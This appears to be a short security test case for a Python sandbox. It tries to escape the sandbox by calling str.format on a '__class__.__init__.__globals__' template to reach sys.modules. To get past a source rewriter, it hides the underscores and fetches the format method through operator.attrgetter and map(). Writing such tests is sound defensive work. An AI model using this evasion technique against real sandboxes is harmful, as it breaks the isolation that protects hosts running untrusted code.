# technique: a bound '{0.__class__...}'.format fetched as operator.attrgetter('format')(tpl) (no `.format` in the source, no class pattern), kept in a dict and a list and called later through map(): none of those calls is an attribute call the format rewriter sees
# configs: default, common
# With nothing allowed `import operator` is refused.
import operator
u = '_' * 2
tpl = '{0.' + u + 'class' + u + '.' + u + 'init' + u + '.' + u + 'globals' + u + '[sys].modules}'
table = {'render': [operator.attrgetter('format')(tpl)]}
texts = list(map(table['render'][0], [exit]))
if "<module 'sys'" in texts[0]:
    return [{'json': {'escaped': texts[0][:300]}}]
return [{'json': {'result': texts[0][:300]}}]
